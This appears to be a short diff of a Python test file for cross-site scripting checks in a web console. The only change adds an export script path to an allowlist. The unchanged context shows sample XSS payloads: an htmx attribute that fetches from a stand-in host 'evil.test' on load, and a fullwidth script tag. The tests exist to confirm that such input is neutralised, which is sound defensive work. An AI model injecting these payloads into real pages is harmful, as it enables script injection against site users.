@@ -40,7 +40,7 @@ PAYLOADS = (
     "<div hx-get=//evil.test hx-trigger=load>",
     "＜script＞alert(1)＜/script＞",  # noqa: RUF001  # some databases fold these
 )
-ALLOWED_SCRIPTS = ("/console/static/htmx.min-", "/console/static/console-")
+ALLOWED_SCRIPTS = ("/console/static/htmx.min-", "/console/static/console-", "/console/static/export-")
 
 
 @pytest.fixture
